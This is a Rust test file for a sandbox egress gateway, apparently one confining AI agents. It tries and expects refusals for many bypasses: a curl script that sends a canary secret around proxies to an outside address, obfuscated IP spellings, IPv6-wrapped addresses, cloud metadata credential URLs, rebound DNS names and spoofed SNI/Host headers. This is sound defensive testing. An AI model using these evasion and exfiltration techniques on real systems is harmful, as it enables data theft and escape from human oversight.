//! Ways around the gateway: other ports, other addresses, other spellings of addresses, other protocols.

use std::net::{IpAddr, Ipv4Addr, Ipv6Addr, SocketAddr, SocketAddrV6};

use carboy_sim::probe::{Hello, Order, ServerNameField};

use crate::attack::{
    Attack, CANARY_IS_KNOWN, NAME_SERVER, Outside, ask, get, has_v6, hello, pieces, plain, query, tls,
};
use crate::world::{CANARY, Person, REAL_KEY, World, http};
use crate::{Case, case, case_with};

pub fn cases() -> Vec<Case> {
    vec![
        case("B1 traffic is captured although no proxy variable is set", without_proxy_variables),
        case_with("B1 no way of curl's around a proxy leads around the gateway", &["curl"], curl_around_a_proxy),
        case("B2 plain HTTP is judged like HTTPS", plain_http),
        case("B3 every other port is captured and refused", other_ports),
        case("B4 the gateway's own port leads nowhere on any address", gateway_port),
        case("B5 an address without a name is refused, whatever names are said on it", address_literals),
        case("B6 an address in odd bases is the address that it is", odd_bases),
        case("B7 an address wrapped in IPv6 is judged as what it is", wrapped_addresses),
        case("B16 no spoofed name brings the real credential to another address", credential_to_another),
        case("B32 metadata services are refused by address and by name", metadata),
        case("B31 a name that leads to this machine is not dialled", names_of_this_machine),
        case_with("B31 a name that leads into somebody's network is not dialled", &["root", "unshare"], rebound_names),
    ]
}

fn order_to(url: &str, address: SocketAddr) -> Order {
    let Order::Http { method, url, headers, body, sni, .. } = http("GET", url, &[], b"") else { unreachable!() };
    Order::Http { method, url, headers, body, connect_to: Some(address), sni }
}

fn without_proxy_variables(person: Person) {
    let world = World::new(person);
    world.settings(CANARY_IS_KNOWN);
    let outside = Outside::new(&world);
    let mut attack = Attack::new(&world, Some(&outside));
    for name in
        ["HTTP_PROXY", "HTTPS_PROXY", "ALL_PROXY", "http_proxy", "https_proxy", "all_proxy", "NO_PROXY", "no_proxy"]
    {
        assert_eq!(attack.order(&Order::Env { name: name.into() }).value, None, "{name}");
    }
    attack.works("an allowed host", &http("POST", "https://notes.example/sink", &[], b"an honest note"));
    let lan = outside.v4();
    attack.refused(
        "straight to an address",
        &order_to("http://collector.example/", lan),
        "address_not_allowed",
        &lan.ip().to_string(),
    );
    attack.refused(
        "a secret to an allowed host",
        &http("POST", "https://notes.example/sink", &[], CANARY.as_bytes()),
        "secret_known",
        "notes.example",
    );
    let connect = format!("CONNECT collector.example:443 HTTP/1.1\r\nHost: collector.example:443\r\n\r\n{CANARY}");
    attack.refused("an address as a proxy", &plain(lan, connect.clone()), "address_not_allowed", "CONNECT");
    let notes = attack.at("notes.example", 80);
    attack.refused("an allowed host as a proxy", &plain(notes, connect), "name_mismatch", "collector.example");
    attack.finish();
}

fn curl_around_a_proxy(person: Person) {
    let world = World::new(person);
    world.settings(CANARY_IS_KNOWN);
    let outside = Outside::new(&world);
    let lan = outside.v4();
    let script = format!(
        "c() {{ curl -s -m 3 -o /dev/null -w '%{{http_code}} ' \"$@\" || true; }}\n\
         c https://notes.example/sink -d note\n\
         c --noproxy '*' https://notes.example/sink -d {CANARY}\n\
         c --noproxy '*' http://{lan}/ -d {CANARY}\n\
         env -u HTTP_PROXY -u HTTPS_PROXY -u ALL_PROXY curl -s -m 3 -o /dev/null http://{lan}/1\n\
         c -x http://{lan} http://notes.example/2\n\
         c --proxy socks5h://{lan} https://notes.example/3\n\
         HTTPS_PROXY=http://{lan} ALL_PROXY=http://{lan} c https://notes.example/4\n\
         c --resolve notes.example:443:{} -k https://notes.example/5\n\
         c --connect-to ::{lan} -k https://notes.example/6\n\
         c --interface lo http://{lan}/7\n\
         true",
        lan.ip()
    );
    let ran = world.sh(&script).expect_code(0);
    assert!(ran.stdout.starts_with("200 403 403 "), "{}", ran.stdout);
    assert!(!ran.stdout[4..].contains("200"), "{}", ran.stdout);
    assert_eq!(ran.refused("secret_known"), 1);
    assert!(ran.refused("address_not_allowed") >= 6, "{:#?}", ran.entries);
    world.assert_nothing_escaped();
    outside.assert_untouched();
}

fn plain_http(person: Person) {
    let world = World::new(person);
    world.settings(CANARY_IS_KNOWN);
    let outside = Outside::new(&world);
    let mut attack = Attack::new(&world, Some(&outside));
    let (plain_at, notes) = (attack.at("plain.example", 80), attack.at("notes.example", 80));
    attack.works("an allowed plain host", &plain(plain_at, get("/sink", &["plain.example"])));
    attack.refused(
        "another address",
        &plain(outside.v4(), get("/", &["plain.example"])),
        "address_not_allowed",
        &outside.v4().ip().to_string(),
    );
    attack.refused(
        "another host by its field",
        &plain(plain_at, get("/", &["collector.example"])),
        "name_mismatch",
        "asked for collector.example",
    );
    attack.refused(
        "another allowed host",
        &plain(plain_at, get("/", &["notes.example"])),
        "name_mismatch",
        "asked for notes.example",
    );
    attack.refused(
        "a secret in a body",
        &http("POST", "http://notes.example/sink", &[], CANARY.as_bytes()),
        "secret_known",
        "request body",
    );
    attack.refused(
        "a secret in a query",
        &plain(plain_at, get(&format!("/sink?q={CANARY}"), &["plain.example"])),
        "secret_known",
        "request line",
    );
    let field = format!("GET /sink HTTP/1.1\r\nHost: notes.example\r\nX-Note: {CANARY}\r\nConnection: close\r\n\r\n");
    attack.refused("a secret in a field", &plain(notes, field), "secret_known", "request header");
    attack.refused("no host in HTTP/1.0", &plain(plain_at, "GET / HTTP/1.0\r\n\r\n"), "host_invalid", "plain.example");
    attack.closed("HTTP/0.9", &plain(plain_at, "GET /\r\n"), "protocol_refused", "plain.example");
    attack.closed(
        "HTTP/2 by prior knowledge",
        &plain(plain_at, "PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"),
        "protocol_refused",
        "plain.example",
    );
    attack.finish();
}

fn other_ports(person: Person) {
    let world = World::new(person);
    let outside = Outside::new(&world);
    let mut attack = Attack::new(&world, Some(&outside));
    let postgres = vec![0, 0, 0, 8, 4, 210, 22, 47];
    for port in [1, 22, 5432, 8888, 65535] {
        let (notes, shown) = (attack.at("notes.example", port), format!("\"port\":{port}"));
        let host = format!("notes.example:{port}");
        attack.refused(&host, &plain(notes, get("/", &[&host])), "port_not_allowed", &shown);
        let elsewhere = SocketAddr::new(outside.v4().ip(), port);
        attack.refused(&elsewhere.to_string(), &plain(elsewhere, get("/", &[&host])), "address_not_allowed", &shown);
    }
    let notes = attack.at("notes.example", 8443);
    attack.refused(
        "TLS",
        &tls(notes, "notes.example", get("/", &["notes.example:8443"])),
        "port_not_allowed",
        "\"port\":8443",
    );
    let notes = attack.at("notes.example", 5433);
    attack.closed("a database's first words", &plain(notes, postgres), "port_not_allowed", "\"port\":5433");
    let silent = Order::Raw { address: outside.v4(), tls: None, pieces: vec![], pause_ms: 0, quiet_ms: 100 };
    attack.closed(
        "a connection without a byte",
        &silent,
        "address_not_allowed",
        &format!("\"port\":{}", outside.v4().port()),
    );
    // UDP has no gateway: it is refused by the bottle's own kernel.
    attack.nothing_there("a datagram", &ask(outside.v4(), CANARY.into()));
    attack.nothing_there("QUIC's port", &ask(SocketAddr::new(outside.v4().ip(), 443), CANARY.into()));
    attack.finish();
}

fn gateway_port(person: Person) {
    const GATEWAY_PORT: u16 = 61_053;
    let world = World::new(person);
    let outside = Outside::new(&world);
    let mut attack = Attack::new(&world, Some(&outside));
    let request = get("/sink", &["notes.example"]);
    let mut addresses = vec![
        outside.v4().ip(),
        Ipv4Addr::new(127, 0, 0, 1).into(),
        Ipv4Addr::new(127, 9, 9, 9).into(),
        Ipv4Addr::new(169, 254, 1, 1).into(),
    ];
    if has_v6() {
        addresses.extend([outside.v6().ip(), Ipv6Addr::LOCALHOST.into()]);
    }
    for ip in addresses {
        let address = SocketAddr::new(ip, GATEWAY_PORT);
        attack.refused(
            &address.to_string(),
            &plain(address, request.clone()),
            "address_not_allowed",
            &format!("\"host\":\"{ip}\""),
        );
        attack.refused(
            &format!("{address} by TLS"),
            &tls(address, "notes.example", request.clone()),
            "address_not_allowed",
            &format!("\"host\":\"{ip}\""),
        );
    }
    let notes = attack.at("notes.example", GATEWAY_PORT);
    attack.refused("an allowed name", &tls(notes, "notes.example", request), "port_not_allowed", "notes.example");
    attack.finish();
    assert_eq!(world.provider.requests(), 0);
}

fn address_literals(person: Person) {
    let world = World::new(person);
    let outside = Outside::new(&world);
    let mut attack = Attack::new(&world, Some(&outside));
    let mut there =
        vec![outside.v4(), SocketAddr::from(([203, 0, 113, 1], 443)), SocketAddr::from(([198, 19, 255, 1], 443))];
    if has_v6() {
        there.extend([outside.v6(), SocketAddr::from((Ipv6Addr::new(0x2606, 0x4700, 0, 0, 0, 0, 0, 0x1111), 443))]);
    }
    for address in there {
        let shown = format!("\"host\":\"{}\"", address.ip());
        let own = address.to_string();
        let mut try_it =
            |what: &str, order| attack.refused(&format!("{own}: {what}"), &order, "address_not_allowed", &shown);
        try_it("plain", plain(address, get("/", &[&own])));
        try_it("plain, in an allowed name", plain(address, get("/", &["notes.example"])));
        try_it("TLS without a server name", tls(address, &address.ip().to_string(), get("/", &[&own])));
        let absent = Hello { server_name: ServerNameField::Absent, ..hello(&address.ip().to_string()) };
        try_it("TLS without the field", pieces(address, Some(absent), vec![get("/", &["notes.example"])]));
        try_it("TLS in an allowed name", tls(address, "notes.example", get("/", &["notes.example"])));
    }
    let hello = [b"\x16\x03\x01\x00\x04junk".to_vec(), b"\x16\x03\x01\xff\xff".to_vec()];
    for (number, bytes) in hello.into_iter().enumerate() {
        let address = SocketAddr::from(([203, 0, 113, 20 + number as u8], 443));
        attack.closed(
            "a handshake that is none",
            &plain(address, bytes),
            "address_not_allowed",
            &address.ip().to_string(),
        );
    }
    attack.finish();
    assert_eq!(world.provider.requests(), 0);
}

fn odd_bases(person: Person) {
    let world = World::new(person);
    let outside = Outside::new(&world);
    let mut attack = Attack::new(&world, Some(&outside));
    let [a, b, c, d] = outside.octets();
    let (port, whole) = (outside.v4().port(), u32::from_be_bytes([a, b, c, d]));
    let shown = format!("\"host\":\"{}\"", outside.v4().ip());
    let spellings = [
        format!("{whole}"),
        format!("0x{whole:x}"),
        format!("0{whole:o}"),
        format!("0{a:o}.0{b:o}.0{c:o}.0{d:o}"),
        format!("0x{a:x}.{b}.0{c:o}.{d}"),
        format!("{a}.{}", u32::from_be_bytes([0, b, c, d])),
        format!("{a}.{b}.{}", u16::from_be_bytes([c, d])),
    ];
    for text in &spellings {
        attack.refused(text, &http("GET", &format!("http://{text}:{port}/"), &[], b""), "address_not_allowed", &shown);
    }
    // These mean loopback, which is the bottle's own: the host's is not there.
    let canary = world.canary.tcp_addr.port();
    for text in ["2130706433", "0177.0.0.1", "0x7f.1", "127.1", "0", "127.0.0.1"] {
        attack.nothing_there(text, &http("GET", &format!("http://{text}:{canary}/"), &[], b""));
    }
    // The same texts where a host is named in a request, and as names.
    let notes = attack.at("notes.example", 443);
    for text in ["2130706433", "0177.0.0.1", "0x7f.1", "127.1", "127.0.0.1:443"] {
        attack.refused(text, &tls(notes, "notes.example", get("/", &[text])), "name_mismatch", "asked for 127.0.0.1");
        let name = text.split(':').next().unwrap();
        attack.no_such_name(name, &ask(NAME_SERVER, query(name, 1)), "name_not_allowed", name);
    }
    attack.refused("0", &tls(notes, "notes.example", get("/", &["0"])), "name_mismatch", "asked for 0.0.0.0");
    attack.refused(
        "a number that is no address",
        &tls(notes, "notes.example", get("/", &["127.0.0.999"])),
        "host_invalid",
        "notes.example",
    );
    attack.finish();
    assert_eq!(world.provider.requests(), 0);
}

fn wrapped_addresses(person: Person) {
    let world = World::new(person);
    let outside = Outside::new(&world);
    let mut attack = Attack::new(&world, Some(&outside));
    let [a, b, c, d] = outside.octets();
    let (port, v4) = (outside.v4().port(), Ipv4Addr::from([a, b, c, d]));
    let (high, low) = (u16::from_be_bytes([a, b]), u16::from_be_bytes([c, d]));
    if has_v6() {
        let wrapped = [
            ("mapped", v4.to_ipv6_mapped(), v4.to_string()),
            ("NAT64", Ipv6Addr::new(0x64, 0xff9b, 0, 0, 0, 0, high, low), "64:ff9b::".into()),
            ("6to4", Ipv6Addr::new(0x2002, high, low, 0, 0, 0, 0, 1), "2002:".into()),
            ("Teredo", Ipv6Addr::new(0x2001, 0, 0, 0, 0, 0, high, low), "2001:".into()),
            ("compatible", Ipv6Addr::new(0, 0, 0, 0, 0, 0, high, low), "\"host\":\"::".into()),
            (
                "mapped metadata",
                Ipv4Addr::new(169, 254, 169, 254).to_ipv6_mapped(),
                "\"host\":\"169.254.169.254\"".into(),
            ),
        ];
        for (what, address, shown) in wrapped {
            let address = SocketAddr::new(IpAddr::V6(address), port);
            attack.refused(what, &plain(address, get("/", &["notes.example"])), "address_not_allowed", &shown);
        }
        // Loopback is the bottle's own, also with a zone and when mapped.
        let canary = world.canary.tcp_addr.port();
        let zone = SocketAddr::V6(SocketAddrV6::new(Ipv6Addr::LOCALHOST, canary, 0, 1));
        attack.nothing_there("::1%lo", &plain(zone, get("/", &["localhost"])));
        let mapped = SocketAddr::new(Ipv4Addr::LOCALHOST.to_ipv6_mapped().into(), canary);
        attack.nothing_there("mapped loopback", &plain(mapped, get("/", &["localhost"])));
    }
    let notes = attack.at("notes.example", 443);
    for (text, shown) in [
        ("[::ffff:127.0.0.1]", "asked for 127.0.0.1"),
        ("[::FFFF:7f00:1]:443", "asked for 127.0.0.1"),
        ("[::1%lo]", "asked for ::1"),
        ("[::1%25lo]:443", "asked for ::1"),
        ("[64:ff9b::7f00:1]", "asked for 64:ff9b::7f00:1"),
    ] {
        attack.refused(text, &tls(notes, "notes.example", get("/", &[text])), "name_mismatch", shown);
    }
    attack.refused(
        "brackets that do not close",
        &tls(notes, "notes.example", get("/", &["[::1"])),
        "host_invalid",
        "notes.example",
    );
    attack.finish();
    assert_eq!(world.provider.requests(), 0);
}

fn credential_to_another(person: Person) {
    let world = World::new(person);
    let outside = Outside::new(&world);
    let mut attack = Attack::new(&world, Some(&outside));
    let fake = [("authorization", "Bearer carboy-placeholder-anthropic-api-key")];
    let model = "api.anthropic.com";
    attack.works("the model itself", &http("GET", "https://api.anthropic.com/v1/models", &fake, b""));
    let request = get("/v1/models", &[model]);
    let (notes, lan) = (attack.at("notes.example", 443), outside.v4());
    attack.refused(
        "an attacker's address by TLS",
        &tls(lan, model, request.clone()),
        "address_not_allowed",
        &lan.ip().to_string(),
    );
    attack.refused("an attacker's address", &plain(lan, request.clone()), "address_not_allowed", &lan.ip().to_string());
    attack.refused(
        "another allowed host by server name and Host",
        &tls(notes, model, request.clone()),
        "name_mismatch",
        model,
    );
    attack.refused(
        "another allowed host by Host",
        &tls(notes, "notes.example", request.clone()),
        "name_mismatch",
        model,
    );
    let absolute = get("https://api.anthropic.com/v1/models", &["notes.example"]);
    attack.refused(
        "another allowed host by the target",
        &tls(notes, "notes.example", absolute),
        "name_mismatch",
        model,
    );
    let plain_at = attack.at("plain.example", 80);
    attack.refused("a plain host", &plain(plain_at, request), "name_mismatch", model);
    attack.works("another host with the fake", &http("GET", "https://notes.example/sink", &fake, b""));
    attack.finish();
    for received in world.provider.received() {
        let own = received.authority == model;
        assert_eq!(received.contains(REAL_KEY.as_bytes()), own, "{} {}", received.authority, received.path);
    }
}

fn metadata(person: Person) {
    let world = World::new(person);
    let mut attack = Attack::new(&world, None);
    let mut services = vec!["169.254.169.254", "169.254.170.2", "168.63.129.16", "100.100.100.200", "192.0.0.192"];
    if has_v6() {
        services.extend(["fd00:ec2::254", "fd20:ce::254"]);
    }
    for text in services {
        let ip: IpAddr = text.parse().unwrap();
        let shown = format!("\"host\":\"{ip}\"");
        let path = "/latest/meta-data/iam/security-credentials/";
        attack.refused(text, &plain(SocketAddr::new(ip, 80), get(path, &[text])), "address_not_allowed", &shown);
        attack.refused(
            text,
            &plain(SocketAddr::new(ip, 80), get(path, &["notes.example"])),
            "address_not_allowed",
            &shown,
        );
        attack.refused(text, &tls(SocketAddr::new(ip, 443), text, get(path, &[text])), "address_not_allowed", &shown);
    }
    for name in ["metadata.google.internal", "metadata", "instance-data", "169.254.169.254.notes.example"] {
        attack.no_such_name(name, &ask(NAME_SERVER, query(name, 1)), "name_not_allowed", name);
    }
    attack.finish();
    assert_eq!(world.provider.requests(), 0);
}

/// Routes to these hosts on this port, with `more` lines each.
fn routes_to(names: &[&str], port: u16, more: &str) -> String {
    let routes: String =
        names.iter().map(|name| format!("    - host: {name}\n      ports: [{port}]\n{more}")).collect();
    format!("egress:\n  routes:\n{routes}")
}

/// Dials every name, plain and by TLS; all of them lead to an address that is not dialled.
fn none_is_dialled(world: &World, outside: &Outside, names: &[&str], port: u16) {
    let mut attack = Attack::new(world, Some(outside));
    for name in names {
        let (address, host) = (attack.at(name, port), format!("{name}:{port}"));
        let shown = format!("{name} resolves to");
        attack.refused(name, &plain(address, get("/", &[&host])), "address_not_public", &shown);
        attack.refused(
            &format!("{name} by TLS"),
            &tls(address, name, get("/", &[&host])),
            "address_not_public",
            &shown,
        );
    }
    attack.finish();
}

fn names_of_this_machine(person: Person) {
    let world = World::new(person);
    let outside = Outside::new(&world);
    let port = world.canary.tcp_addr.port();
    // What is this machine for sure is no route at all.
    for host in
        ["localhost", "127.0.0.1", "2130706433", "127.1", "::1", "::ffff:127.0.0.1", "169.254.169.254", "fd00:ec2::254"]
    {
        for private in ["", "      private: true\n"] {
            world.bottle(&routes_to(&[&format!("'{host}'")], port, private));
            let ran = world.run(&["true"]);
            assert!(
                ran.code != 0 && ran.entries.is_empty() && ran.stderr.contains("`host` of route 1"),
                "{host}: {}",
                ran.stderr
            );
        }
    }
    // Other names that this machine has for itself are found out when they are to be dialled.
    let hosts = std::fs::read_to_string("/etc/hosts").unwrap_or_default();
    let lines = hosts.lines().map(|line| line.split('#').next().unwrap_or(""));
    let local = lines.filter(|line| line.starts_with("127."));
    let names = local.flat_map(|line| line.split_whitespace().skip(1)).filter(|name| !name.contains("local"));
    let mut names: Vec<&str> = names.collect();
    names.sort_unstable();
    names.dedup();
    for private in ["", "      private: true\n"].into_iter().filter(|_| !names.is_empty()) {
        world.bottle(&routes_to(&names, port, private));
        none_is_dialled(&world, &outside, &names, port);
    }
    world.assert_nothing_escaped();
}

fn rebound_names(person: Person) {
    let mut world = World::new(person);
    let outside = Outside::new(&world);
    let lan = outside.v4().ip();
    let addresses = [
        ("here.example", "127.0.0.1".to_owned()),
        ("here-too.example", "127.8.8.8".to_owned()),
        ("here-six.example", "::1".to_owned()),
        ("mapped.example", "::ffff:127.0.0.1".to_owned()),
        ("zero.example", "0.0.0.0".to_owned()),
        ("metadata.example", "169.254.169.254".to_owned()),
        ("metadata-six.example", "fd00:ec2::254".to_owned()),
        ("metadata-shared.example", "100.100.100.200".to_owned()),
        ("link.example", "fe80::1".to_owned()),
        ("many.example", "255.255.255.255".to_owned()),
    ];
    let network = [
        ("lan.example", lan.to_string()),
        ("ten.example", "10.255.255.254".to_owned()),
        ("unique.example", "fdff::1".to_owned()),
    ];
    let file: String = addresses.iter().chain(&network).map(|(name, ip)| format!("{ip} {name}\n")).collect();
    world.write("hosts", &file);
    world.hosts = Some(world.dir.join("hosts"));
    let never: Vec<&str> = addresses.iter().map(|(name, _)| *name).collect();
    let all: Vec<&str> = never.iter().copied().chain(network.iter().map(|(name, _)| *name)).collect();
    let port = outside.v4().port();
    world.bottle(&routes_to(&all, port, ""));
    none_is_dialled(&world, &outside, &all, port);
    // What lies in somebody's network may be opened; this machine and the metadata services may not.
    world.bottle(&routes_to(&never, world.canary.tcp_addr.port(), "      private: true\n"));
    none_is_dialled(&world, &outside, &never, world.canary.tcp_addr.port());
}
